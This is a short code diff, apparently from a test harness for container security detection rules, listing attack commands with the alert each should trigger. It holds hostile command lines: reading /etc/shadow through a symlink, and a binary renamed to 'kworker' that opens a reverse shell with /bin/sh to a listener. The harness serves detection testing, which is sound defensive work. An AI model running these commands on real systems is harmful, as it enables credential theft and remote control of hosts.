@@ -59,7 +59,8 @@ func attacks(server, listener string) []attack {
 			rule: "Sensitive file read by a shell in a container", priority: "Critical"},
 		{name: "quiet-symlink", command: "ln -s /etc/shadow /tmp/notes; cat /tmp/notes",
 			rule: "Sensitive file read by an unexpected program in a container", priority: "Warning"},
-		{name: "renamed", command: "cp /bin/busybox /tmp/kworker; /tmp/kworker sleep 0", rule: "Dropped binary started in a container", priority: "Error"},
+		{name: "renamed", command: "cp /bin/probe /tmp/kworker; /tmp/kworker attack reverse-shell " + listener + " /bin/sh",
+			rule: "Connection as standard input in a container", priority: "Critical"},
 	}
 }
 
